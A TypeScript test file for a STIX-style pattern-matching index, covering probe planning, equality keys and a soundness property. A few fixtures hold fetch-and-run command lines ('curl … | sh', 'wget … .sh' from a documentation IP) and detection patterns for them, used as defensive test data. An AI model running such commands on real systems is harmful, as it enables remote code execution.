// Index probes (planComparison / equalityKey): which object types and equality constants can admit a
// `[ … ]`, for leaves, AND (intersection; every group must admit, at most four kept), OR (union, scan wins), `NOT !=`, IN (also empty),
// operators that must scan, hex case folding, NFC, 22 vs 22.0, and a 20 000-term AND chain. Then a
// property: the ConditionIndex built from one random expression is sound — whenever the compiled test holds
// on an object, the index returns that expression as a candidate for it.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ConditionIndexBuilder } from '../../match/candidates.js';
import type { ComparisonExpression } from '../ast.js';
import { parsePattern } from '../parser.js';
import { compileComparison } from './evaluate.js';
import type { ObservationView } from './observation.js';
import { type ComparisonPlan, equalityKey, type IndexProbe, planComparison } from './probes.js';

/** The comparison expression inside a single-bracket pattern. */
function bracket(text: string, maxLength?: number): ComparisonExpression {
  const { ast, diagnostics } = parsePattern(text, maxLength === undefined ? {} : { maxLength });
  if (!ast) throw new Error(`does not parse: ${text.slice(0, 80)}: ${diagnostics[0]?.message}`);
  if (ast.expression.kind !== 'observation') throw new Error(`not a single bracket: ${text.slice(0, 80)}`);
  return ast.expression.comparison;
}

/**
 * A plan as plain data: per type, 'scan', the probes (path, encoding, keys) of its one group, or
 * `{ all: [...] }` when several groups must each admit.
 */
function plain(plan: ComparisonPlan): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  const group = (probes: readonly IndexProbe[]) =>
    probes.map((probe) => ({ path: probe.pathKey, encoding: probe.encoding, keys: [...probe.keys] }));
  for (const [type, entry] of plan) {
    if (entry === 'scan') out[type] = 'scan';
    else out[type] = entry.length === 1 ? group(entry[0] ?? []) : { all: entry.map(group) };
  }
  return out;
}

const planOf = (text: string): Record<string, unknown> => plain(planComparison(bracket(text)));

/** One view holding `objects`, keyed "0", "1", … as 2.0 embedded objects are. */
function view(...objects: Record<string, unknown>[]): ObservationView {
  return { objects: new Map(objects.map((object, i) => [String(i), object])) };
}

/** The conditions an index built from `texts` (in order) admits for `v`. */
function candidatesOf(texts: readonly string[], v: ObservationView): number[] {
  const builder = new ConditionIndexBuilder();
  for (const text of texts) builder.add(bracket(text));
  return [...builder.build().candidates(v)].sort((a, b) => a - b);
}

describe('planComparison: leaves', () => {
  it('an equality on a string, number or boolean is one probe on its type and path', () => {
    expect(planOf("[ipv4-addr:value = '198.51.100.4']")).toEqual({
      'ipv4-addr': [{ path: 'ipv4-addr:value', encoding: 'text', keys: ['s198.51.100.4'] }],
    });
    expect(planOf('[network-traffic:dst_port = 22]')).toEqual({
      'network-traffic': [{ path: 'network-traffic:dst_port', encoding: 'text', keys: ['n22'] }],
    });
    expect(planOf('[network-traffic:is_active = true]')).toEqual({
      'network-traffic': [{ path: 'network-traffic:is_active', encoding: 'text', keys: ['btrue'] }],
    });
  });

  it('keeps the full path, through refs and list indices', () => {
    expect(planOf("[network-traffic:dst_ref.value = '10.0.0.5']")).toEqual({
      'network-traffic': [{ path: 'network-traffic:dst_ref.value', encoding: 'text', keys: ['s10.0.0.5'] }],
    });
    expect(planOf("[network-traffic:protocols[*] = 'tcp']")).toEqual({
      'network-traffic': [{ path: 'network-traffic:protocols[*]', encoding: 'text', keys: ['stcp'] }],
    });
  });

  it('`NOT !=` is an equality and gets a probe', () => {
    expect(planOf('[network-traffic:dst_port NOT != 22]')).toEqual({
      'network-traffic': [{ path: 'network-traffic:dst_port', encoding: 'text', keys: ['n22'] }],
    });
  });

  it('IN probes every member; an empty IN probes no key, so it admits nothing', () => {
    expect(planOf('[network-traffic:dst_port IN (22, 2222, 22.0)]')).toEqual({
      'network-traffic': [
        { path: 'network-traffic:dst_port', encoding: 'text', keys: ['n22', 'n2222', 'n22'] },
      ],
    });
    expect(planOf('[network-traffic:dst_port IN ()]')).toEqual({
      'network-traffic': [{ path: 'network-traffic:dst_port', encoding: 'text', keys: [] }],
    });
    const traffic = { type: 'network-traffic', dst_port: 22 };
    expect(candidatesOf(['[network-traffic:dst_port IN ()]'], view(traffic))).toEqual([]);
  });

  it('scans for negations, inequalities, orderings, sets, EXISTS and unkeyed literals', () => {
    for (const text of [
      '[network-traffic:dst_port != 22]',
      '[network-traffic:dst_port NOT = 22]',
      '[network-traffic:dst_port NOT IN (22, 23)]',
      '[network-traffic:dst_port > 1024]',
      '[network-traffic:dst_port <= 1024]',
      "[process:command_line NOT LIKE 'curl%']",
      "[process:command_line NOT MATCHES '^curl ']",
      "[ipv4-addr:value ISSUBSET '10.0.0.0/8']",
      '[EXISTS process:command_line]',
      '[NOT EXISTS process:command_line]',
      "[file:magic_number_hex = h'7f454c46']",
      "[file:payload_bin = b'aGVsbG8=']",
      "[network-traffic:start = t'2026-01-31T12:00:00Z']",
      "[network-traffic:start IN (t'2026-01-31T12:00:00Z')]",
    ]) {
      expect(Object.values(planOf(text)), text).toEqual(['scan']);
    }
  });

  it('LIKE and MATCHES admit, on their type only, every value they accept', () => {
    // Whether they scan or probe for a literal they need, the index must let every hit through.
    const texts = [
      "[process:command_line LIKE 'curl%|%sh']",
      "[process:command_line MATCHES '^wget .*\\\\.sh$']",
    ];
    const curl = { type: 'process', command_line: 'curl -s http://198.51.100.23/x | sh' };
    const wget = { type: 'process', command_line: 'wget http://198.51.100.23/x.sh' };
    expect(candidatesOf(texts, view(curl))).toContain(0);
    expect(candidatesOf(texts, view(wget))).toContain(1);
    expect(candidatesOf(texts, view({ type: 'file', name: 'curl -s | sh' }))).toEqual([]);
    for (const text of texts) expect(Object.keys(planOf(text))).toEqual(['process']);
  });
});

describe('planComparison: AND', () => {
  it('keeps only the types every operand allows: comparisons on two types admit nothing', () => {
    expect(planOf("[network-traffic:dst_port = 22 AND user-account:user_id = 'x']")).toEqual({});
    expect(candidatesOf(["[network-traffic:dst_port = 22 AND user-account:user_id = 'x']"], view())).toEqual(
      [],
    );
  });

  it('requires every operand group, most selective first', () => {
    expect(
      planOf("[network-traffic:dst_port IN (22, 2222, 8022) AND network-traffic:dst_ref.value = '10.0.0.5']"),
    ).toEqual({
      'network-traffic': {
        all: [
          [{ path: 'network-traffic:dst_ref.value', encoding: 'text', keys: ['s10.0.0.5'] }],
          [{ path: 'network-traffic:dst_port', encoding: 'text', keys: ['n22', 'n2222', 'n8022'] }],
        ],
      },
    });
    const texts = ["[x-k8s-api-request:verb = 'create' AND x-k8s-api-request:object_ref.name = 'loot']"];
    const request = (verb: string) => ({ type: 'x-k8s-api-request', verb, object_ref: '1' });
    expect(
      candidatesOf(texts, view(request('create'), { type: 'x-k8s-object', id: '1', name: 'loot' })),
    ).toEqual([0]);
    // One of the two constants alone does not make the bracket a candidate.
    expect(
      candidatesOf(texts, view(request('create'), { type: 'x-k8s-object', id: '1', name: 'web' })),
    ).toEqual([]);
    expect(
      candidatesOf(texts, view(request('get'), { type: 'x-k8s-object', id: '1', name: 'loot' })),
    ).toEqual([]);
  });

  it('keeps at most four groups per type, the most selective', () => {
    const terms = [
      'a = 1',
      "b IN ('x', 'y')",
      'c IN (1, 2, 3)',
      'd = true',
      "e IN ('p', 'q', 'r', 's')",
      'f > 2',
    ];
    const plan = planComparison(bracket(`[${terms.map((t) => `x-t:${t}`).join(' AND ')}]`)).get('x-t');
    expect(plan === 'scan' ? plan : plan?.map((group) => group.map((probe) => probe.pathKey))).toEqual([
      ['x-t:a'],
      ['x-t:d'],
      ['x-t:b'],
      ['x-t:c'],
    ]);
  });

  it('prefers a probe over a scan, and scans only when every operand scans', () => {
    expect(planOf('[network-traffic:dst_port > 1024 AND network-traffic:src_port = 22]')).toEqual({
      'network-traffic': [{ path: 'network-traffic:src_port', encoding: 'text', keys: ['n22'] }],
    });
    expect(planOf('[network-traffic:dst_port > 1024 AND network-traffic:src_port != 22]')).toEqual({
      'network-traffic': 'scan',
    });
  });

  it('an empty IN is the most selective group and rules the whole bracket out', () => {
    expect(planOf('[network-traffic:dst_port = 22 AND network-traffic:src_port IN ()]')).toEqual({
      'network-traffic': {
        all: [
          [{ path: 'network-traffic:src_port', encoding: 'text', keys: [] }],
          [{ path: 'network-traffic:dst_port', encoding: 'text', keys: ['n22'] }],
        ],
      },
    });
    const texts = ['[network-traffic:dst_port = 22 AND network-traffic:src_port IN ()]'];
    expect(candidatesOf(texts, view({ type: 'network-traffic', dst_port: 22, src_port: 22 }))).toEqual([]);
  });

  it('intersects with an OR operand type by type', () => {
    expect(
      planOf("[(ipv4-addr:value = '10.0.0.5' OR ipv6-addr:value = '::1') AND ipv4-addr:value > '0']"),
    ).toEqual({ 'ipv4-addr': [{ path: 'ipv4-addr:value', encoding: 'text', keys: ['s10.0.0.5'] }] });
  });
});

describe('planComparison: OR', () => {
  it('admits every type any operand allows', () => {
    expect(planOf("[ipv4-addr:value = '10.0.0.5' OR ipv6-addr:value = '::1']")).toEqual({
      'ipv4-addr': [{ path: 'ipv4-addr:value', encoding: 'text', keys: ['s10.0.0.5'] }],
      'ipv6-addr': [{ path: 'ipv6-addr:value', encoding: 'text', keys: ['s::1'] }],
    });
  });

  it('unites the probes of one type', () => {
    expect(planOf('[network-traffic:dst_port = 22 OR network-traffic:src_port = 2222]')).toEqual({
      'network-traffic': [
        { path: 'network-traffic:dst_port', encoding: 'text', keys: ['n22'] },
        { path: 'network-traffic:src_port', encoding: 'text', keys: ['n2222'] },
      ],
    });
  });

  it('a scanning operand makes its type scan, whichever side it is on; other types keep their probes', () => {
    expect(planOf('[network-traffic:dst_port = 22 OR network-traffic:src_port > 1024]')).toEqual({
      'network-traffic': 'scan',
    });
    expect(planOf('[network-traffic:src_port > 1024 OR network-traffic:dst_port = 22]')).toEqual({
      'network-traffic': 'scan',
    });
    expect(planOf("[network-traffic:src_port > 1024 OR ipv4-addr:value = '10.0.0.5']")).toEqual({
      'network-traffic': 'scan',
      'ipv4-addr': [{ path: 'ipv4-addr:value', encoding: 'text', keys: ['s10.0.0.5'] }],
    });
  });
});

describe('equality keys', () => {
  it('folds the case of *_hex properties, on both the literal and the value, and only there', () => {
    expect(planOf("[file:magic_number_hex = '7F454C46']")).toEqual({
      file: [{ path: 'file:magic_number_hex', encoding: 'hex', keys: ['s7f454c46'] }],
    });
    expect(equalityKey('7F454c46', 'hex')).toBe('s7f454c46');
    expect(equalityKey('7F454C46', 'text')).toBe('s7F454C46');
    expect(equalityKey('7F454C46', 'text')).not.toBe(equalityKey('7f454c46', 'text'));
    expect(
      candidatesOf(
        ["[file:magic_number_hex = '7F454C46']"],
        view({ type: 'file', magic_number_hex: '7f454c46' }),
      ),
    ).toEqual([0]);
    expect(candidatesOf(["[file:name = 'ELF']"], view({ type: 'file', name: 'elf' }))).toEqual([]);
  });

  it('normalises strings to NFC on both sides', () => {
    const composed = 'caf\u00e9.sh';
    const decomposed = 'cafe\u0301.sh';
    expect(equalityKey(decomposed, 'text')).toBe(`s${composed}`);
    expect(equalityKey(composed, 'text')).toBe(`s${composed}`);
    expect(planOf(`[file:name = '${decomposed}']`)).toEqual({
      file: [{ path: 'file:name', encoding: 'text', keys: [`s${composed}`] }],
    });
    expect(candidatesOf([`[file:name = '${decomposed}']`], view({ type: 'file', name: composed }))).toEqual([
      0,
    ]);
    expect(candidatesOf([`[file:name = '${composed}']`], view({ type: 'file', name: decomposed }))).toEqual([
      0,
    ]);
  });

  it('keys 22, 22.0 and -0/0 by value, and keeps types apart', () => {
    expect(planOf('[network-traffic:dst_port = 22.0]')).toEqual(planOf('[network-traffic:dst_port = 22]'));
    expect(equalityKey(22, 'text')).toBe('n22');
    expect(equalityKey(22.5, 'text')).toBe('n22.5');
    expect(equalityKey(-0, 'text')).toBe(equalityKey(0, 'text'));
    expect(equalityKey('22', 'text')).not.toBe(equalityKey(22, 'text'));
    expect(equalityKey(true, 'text')).toBe('btrue');
    expect(equalityKey('true', 'text')).not.toBe(equalityKey(true, 'text'));
    for (const value of [null, undefined, [22], { port: 22 }, Number.NaN, Number.POSITIVE_INFINITY]) {
      expect(equalityKey(value, 'text'), String(value)).toBeUndefined();
    }
    const traffic = { type: 'network-traffic', dst_port: 22 };
    expect(candidatesOf(['[network-traffic:dst_port = 22.0]'], view(traffic))).toEqual([0]);
    expect(candidatesOf(["[network-traffic:dst_port = '22']"], view(traffic))).toEqual([]);
  });

  it('looks constants up per type and path: a value under another type or path is not a candidate', () => {
    const texts = [
      "[ipv4-addr:value = '10.0.0.5']",
      "[domain-name:value = '10.0.0.5']",
      '[process:pid = 22]',
    ];
    expect(candidatesOf(texts, view({ type: 'ipv4-addr', value: '10.0.0.5' }))).toEqual([0]);
    expect(candidatesOf(texts, view({ type: 'domain-name', value: '10.0.0.5' }))).toEqual([1]);
    expect(candidatesOf(texts, view({ type: 'process', command_line: 22 }))).toEqual([]);
    expect(candidatesOf(texts, view({ type: 'network-traffic', dst_port: 22 }))).toEqual([]);
  });
});

describe('planComparison: long chains', () => {
  it('plans a 20 000-term AND chain (parsed, left-deep) without overflowing the stack', () => {
    const terms = Array.from({ length: 20_000 }, (_, i) => `x-t:p${i} IN (${i}, ${i + 1})`);
    terms.push("x-t:needle = 'found'");
    const text = `[${terms.join(' AND ')}]`;
    const plan = planComparison(bracket(text, text.length)).get('x-t');
    // The single-key groups come first; of equals, the order of the chain.
    expect(plan === 'scan' ? plan : plan?.map((group) => group.map((probe) => probe.pathKey))).toEqual([
      ['x-t:needle'],
      ['x-t:p0'],
      ['x-t:p1'],
      ['x-t:p2'],
    ]);
  });

  it('plans a 20 000-term AND chain built right-deep', () => {
    const leaves = Array.from({ length: 20_000 }, (_, i) => bracket(`[x-t:p${i} = ${i}]`));
    const span = { offset: 0, length: 0 };
    let expr: ComparisonExpression = bracket('[x-t:needle IN ()]');
    for (const leaf of leaves)
      expr = { kind: 'comparisonBinary', operator: 'AND', left: leaf, right: expr, span };
    const plan = planComparison(expr).get('x-t');
    expect(plan === 'scan' ? plan : plan?.[0]).toEqual([
      expect.objectContaining({ pathKey: 'x-t:needle', keys: [] }),
    ]);
    expect(plan === 'scan' ? 0 : plan?.length).toBe(4);
  });
});

// ---------------------------------------------------------------------------------------------------------
// Soundness of the index, as a property.

/** Strings that differ only by NFC form or hex letter case, plus look-alikes of other types. */
const STRINGS = [
  'ab',
  'AB',
  'aB',
  '7f454c46',
  '7F454C46',
  '\u00e9',
  'e\u0301',
  'caf\u00e9',
  'CAFE\u0301',
  '\u00c5',
  'A\u030a',
  '\u212b',
  '22',
  'true',
  '',
];

const PATHS = ['x-t:v', 'x-t:v_hex', 'x-t:list[*]', 'x-u:v', "x-t:hashes.'SHA-256'"];

const quoted = fc.constantFrom(...STRINGS).map((s) => `'${s}'`);
const number = fc.constantFrom(
  '22',
  '22.0',
  '0',
  '-0.0',
  '-22',
  '1.5',
  '9007199254740993',
  '100000000000000000000.0',
);
const scalarLiteral = fc.oneof(
  { arbitrary: quoted, weight: 3 },
  { arbitrary: number, weight: 2 },
  { arbitrary: fc.constantFrom('true', 'false'), weight: 1 },
);

const rightSide = fc.oneof(
  {
    arbitrary: fc.tuple(fc.constantFrom('=', '!='), scalarLiteral).map(([op, lit]) => `${op} ${lit}`),
    weight: 4,
  },
  {
    arbitrary: fc.array(scalarLiteral, { maxLength: 3 }).map((lits) => `IN (${lits.join(', ')})`),
    weight: 2,
  },
  {
    arbitrary: fc
      .tuple(fc.constantFrom('>', '<='), fc.oneof(quoted, number))
      .map(([op, lit]) => `${op} ${lit}`),
    weight: 1,
  },
  {
    arbitrary: fc
      .constantFrom(
        '%',
        'a%',
        '_',
        'caf_',
        'A%',
        '%b',
        '\u00e9',
        'cafe\u0301%',
        '%e\u0301',
        '7f%',
        '%22%',
        '_\u030a',
      )
      .map((s) => `LIKE '${s}'`),
    weight: 1,
  },
  {
    arbitrary: fc
      .constantFrom(
        '^a',
        '^A',
        'b$',
        '\u00e9',
        'e\u0301',
        '^7f',
        '^22$',
        '(?i)ab',
        'a|B',
        'ab*',
        '[aA]b',
        'caf.',
      )
      .map((s) => `MATCHES '${s}'`),
    weight: 1,
  },
);

const comparison = fc
  .tuple(fc.constantFrom(...PATHS), fc.boolean(), rightSide)
  .map(([path, negated, right]) => `${path} ${negated ? 'NOT ' : ''}${right}`);

const expression: fc.Arbitrary<string> = fc.letrec<{ expr: string }>((tie) => ({
  expr: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    comparison,
    fc.constantFrom(...PATHS).map((path) => `EXISTS ${path}`),
    fc
      .tuple(tie('expr'), fc.constantFrom('AND', 'OR'), tie('expr'))
      .map(([left, op, right]) => `(${left} ${op} ${right})`),
  ),
})).expr;

type Scalar = string | number | boolean | null;

/**
 * Values close to the literals of `expr`: each string in both cases and both normal forms (also with
 * LIKE / MATCHES syntax stripped), each number as itself and negated, each boolean — so that generated
 * objects often sit right on the edge between what an expression accepts and what it does not.
 */
function relatedValues(expr: ComparisonExpression): Scalar[] {
  const out = new Set<Scalar>();
  const stack = [expr];
  for (let node = stack.pop(); node; node = stack.pop()) {
    if (node.kind === 'comparisonBinary') {
      stack.push(node.left, node.right);
      continue;
    }
    if (node.kind !== 'comparison') continue;
    const literals = node.value.kind === 'set' ? node.value.elements : [node.value];
    for (const literal of literals) {
      if (literal.kind === 'string') {
        for (const text of [literal.value, literal.value.replace(/[%_^$.*|?()[\]]/g, '')]) {
          for (const form of [text, text.toUpperCase(), text.toLowerCase()]) {
            out.add(form.normalize('NFC'));
            out.add(form.normalize('NFD'));
          }
        }
      } else if (literal.kind === 'int' || literal.kind === 'float') {
        const n = Number(literal.value);
        out.add(n);
        out.add(-n);
      } else if (literal.kind === 'bool') {
        out.add(literal.value);
      }
    }
  }
  return [...out];
}

const anyScalar: fc.Arbitrary<Scalar> = fc.oneof(
  { arbitrary: fc.constantFrom(...STRINGS), weight: 3 },
  { arbitrary: fc.constantFrom(22, 22.0, 0, -0, -22, 1.5, 2 ** 53, 1e20), weight: 2 },
  { arbitrary: fc.boolean(), weight: 1 },
  { arbitrary: fc.constant(null), weight: 1 },
);

/** Objects of a type the expression names (mostly), whose properties hold values near its literals. */
function objectsFor(text: string): fc.Arbitrary<Record<string, unknown>[]> {
  const related = relatedValues(bracket(`[${text}]`));
  const scalar =
    related.length === 0
      ? anyScalar
      : fc.oneof({ arbitrary: fc.constantFrom(...related), weight: 3 }, { arbitrary: anyScalar, weight: 1 });
  const value = fc.oneof(
    { arbitrary: scalar, weight: 6 },
    { arbitrary: fc.array(scalar, { maxLength: 3 }), weight: 2 },
    { arbitrary: fc.constant({ v: 'ab' }), weight: 1 },
  );
  const object = fc.record(
    {
      type: fc.constantFrom<unknown>('x-t', 'x-t', 'x-t', 'x-u', 42),
      v: value,
      v_hex: value,
      list: fc.oneof(
        { arbitrary: fc.array(scalar, { maxLength: 4 }), weight: 3 },
        { arbitrary: value, weight: 1 },
      ),
      hashes: fc.oneof(
        { arbitrary: fc.record({ 'SHA-256': value }), weight: 3 },
        { arbitrary: value, weight: 1 },
      ),
    },
    { requiredKeys: ['type'] },
  );
  return fc.array(object, { minLength: 1, maxLength: 4 });
}

describe('ConditionIndex soundness', () => {
  it('returns an expression as a candidate for every object its compiled test accepts', () => {
    const runs = Number(process.env['KSTORM_PROPERTY_RUNS'] ?? 4000);
    let held = 0;
    const sample = expression.chain((text) => fc.tuple(fc.constant(text), objectsFor(text)));
    fc.assert(
      fc.property(sample, ([text, objects]) => {
        const expr = bracket(`[${text}]`);
        const builder = new ConditionIndexBuilder();
        const condition = builder.add(expr);
        const index = builder.build();
        const test = compileComparison(expr);
        // Each object alone is one observation.
        for (const object of objects) {
          const v = view(object);
          if (!test(v)) continue;
          held += 1;
          expect(index.candidates(v), 'the index ruled out an expression that holds').toContain(condition);
        }
      }),
      { numRuns: runs },
    );
    // The property is not vacuous: the generators make the test hold often enough to be checked.
    expect(held).toBeGreaterThan(runs / 4);
  });
});
